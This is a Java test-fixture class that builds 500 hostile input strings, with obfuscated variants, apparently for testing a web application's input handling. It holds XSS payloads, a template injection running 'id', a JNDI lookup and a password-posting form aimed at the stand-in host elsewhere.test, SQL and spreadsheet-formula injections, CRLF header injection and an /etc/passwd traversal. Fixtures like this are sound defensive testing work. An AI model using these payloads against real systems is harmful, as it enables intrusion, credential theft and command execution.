package org.zhanggui.web;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.function.UnaryOperator;

/**
 * What people type who mean no good: scripts, mark-up, template and query syntax, addresses of elsewhere, letters that
 * break layouts. Each is told apart from the others by nothing but itself, and the same ones come at every run.
 */
final class HostileTexts {

    static final int COUNT = 500;

    private static final List<String> SEEDS = List.of(
            "<script>alert(1)</script>",
            "<script src=https://elsewhere.test/x.js></script>",
            "</title><script>alert(1)</script>",
            "</textarea><script>alert(1)</script>",
            "</script><script>alert(1)</script>",
            "</style><img src=x onerror=alert(1)>",
            "-->\n<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "' onmouseover=alert(1) autofocus onfocus=alert(1) x='",
            "\" autofocus onfocus=alert(1) x=\"",
            "<img src=https://elsewhere.test/pixel.gif>",
            "<img srcset='https://elsewhere.test/a 1x'>",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><use href='https://elsewhere.test/x.svg#a'/></svg>",
            "<math><mtext><script>alert(1)</script></mtext></math>",
            "<iframe src=https://elsewhere.test></iframe>",
            "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
            "<object data=https://elsewhere.test/x></object>",
            "<embed src=https://elsewhere.test/x>",
            "<base href=https://elsewhere.test/>",
            "<meta http-equiv=refresh content='0;url=https://elsewhere.test'>",
            "<link rel=stylesheet href=https://elsewhere.test/x.css>",
            "<link rel=prefetch href=https://elsewhere.test/x>",
            "<style>@import 'https://elsewhere.test/x.css'; *{display:none}</style>",
            "<div style='position:fixed;inset:0;background:url(https://elsewhere.test/x)'>x</div>",
            "<form action=https://elsewhere.test method=post><input name=password></form>",
            "<button formaction=https://elsewhere.test>x</button>",
            "<div hx-get=/logout hx-trigger=load>x</div>",
            "<div data-hx-get=https://elsewhere.test data-hx-trigger=load>x</div>",
            "<body onload=alert(1)>",
            "<details open ontoggle=alert(1)>x</details>",
            "<video autoplay onplay=alert(1)><source src=https://elsewhere.test/x></video>",
            "<a href=javascript:alert(1)>x</a>",
            "<a ping=https://elsewhere.test href=/>x</a>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<template><script>alert(1)</script></template>",
            "<xmp><script>alert(1)</script></xmp>",
            "<plaintext>",
            "<![CDATA[<script>alert(1)</script>]]>",
            "[x](javascript:alert(1))",
            "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[x](vbscript:alert(1))",
            "[x](//elsewhere.test)",
            "[x](https://elsewhere.test/?a=1&b=2 \"onclick=alert(1)\")",
            "![x](https://elsewhere.test/pixel.gif)",
            "![x](javascript:alert(1))",
            "![x](/logout)",
            "[![x](https://elsewhere.test/a.png)](https://elsewhere.test)",
            "[x]: https://elsewhere.test\n\n![x]",
            "<https://elsewhere.test>",
            "<javascript:alert(1)>",
            "`<script>alert(1)</script>`",
            "```html\n<script>alert(1)</script>\n```",
            "    <script>alert(1)</script>",
            "> <img src=x onerror=alert(1)>",
            "- <svg onload=alert(1)>",
            "# <script>alert(1)</script>",
            "| <img src=x onerror=alert(1)> |\n|---|\n| x |",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;alert(1)&#60;/script&#62;",
            "&#x3c;img src=x onerror=alert(1)&#x3e;",
            "\\<script\\>alert(1)\\</script\\>",
            "\u003cscript\u003ealert(1)\u003c/script\u003e",
            "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "＜script＞alert(1)＜/script＞",
            "${7*7}",
            "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
            "[[${7*7}]]",
            "[(${7*7})]",
            "*{7*7} #{7*7} @{7*7} ~{7*7}",
            "#{common.cancel}",
            "{0} {1} {0,number}",
            "{{constructor.constructor('alert(1)')()}}",
            "<%= 7*7 %>",
            "${jndi:ldap://elsewhere.test/x}",
            "'; drop table product; --",
            "' or '1'='1",
            "\\'; select pg_sleep(9); --",
            "%_%' escape '\\",
            "=HYPERLINK(\"https://elsewhere.test\",\"x\")",
            "=cmd|' /C calc'!A0",
            "@SUM(1+1)",
            "+1+1",
            "-1+1",
            "a\r\nSet-Cookie: x=y",
            "a\r\n\r\n<script>alert(1)</script>",
            "../../../../etc/passwd",
            "\u202e\u202egnp.exe",
            "\u2066abc\u2069\u200b\u200d\ufeff",
            "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324a\u0334\u0335\u031b",
            "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67\u200d\ud83d\udc66\ud83c\udff3\ufe0f",
            "\u0001\u0002\u0007\u001b[31mred",
            "\ufffe\uffff",
            "null",
            "undefined",
            "true",
            "NaN",
            "\u3000\u3000空\u3000",
            "ﷺ".repeat(12),
            "W".repeat(40));

    private static final List<UnaryOperator<String>> DISGUISES = List.of(
            text -> text.replace("script", "ScRiPt").replace("alert", "alert"),
            text -> text.replace("<", "<\t"),
            text -> text.replace("<", "<<"),
            text -> text.replace(">", "//>"),
            text -> text.replace(" ", "/"),
            text -> text.replace("javascript:", "java\tscript:"),
            text -> text.replace("https://elsewhere.test", "//elsewhere.test"),
            text -> text.replace("elsewhere", "ELSEWHERE"),
            text -> text.replace("alert(1)", "alert`1`"),
            text -> text.replace("alert(1)", "&#97;lert(1)"),
            text -> text.replace("\"", "'"),
            text -> text.replace("'", "\u2019"),
            text -> "\ufeff" + text,
            text -> "*" + text + "*",
            text -> "[" + text + "](/)",
            text -> "![" + text + "](/)",
            text -> "[x](" + text + ")",
            text -> "<p>" + text,
            text -> "<!--" + text,
            text -> "\"'`" + text,
            text -> text + "\u202e",
            text -> "1\n\n" + text + "\n\n2");

    private HostileTexts() {}

    /** {@return {@value #COUNT} texts, all different: the plain ones first, then the same in disguise} */
    static List<String> all() {
        Set<String> texts = new LinkedHashSet<>(SEEDS);
        var random = new Random(20261123);
        while (texts.size() < COUNT) {
            String seed = SEEDS.get(random.nextInt(SEEDS.size()));
            UnaryOperator<String> disguise = DISGUISES.get(random.nextInt(DISGUISES.size()));
            texts.add(disguise.apply(seed));
        }
        return new ArrayList<>(texts);
    }

    /** {@return the text as it fits into a field of one line: its first characters, never half of a pair} */
    static String within(String text, int length) {
        String line = text.replaceAll("\\R", " ");
        int end = Math.min(line.length(), length);
        String cut = line.substring(0, end > 0 && Character.isHighSurrogate(line.charAt(end - 1)) ? end - 1 : end);
        return cut.isBlank() ? "x" : cut;
    }
}
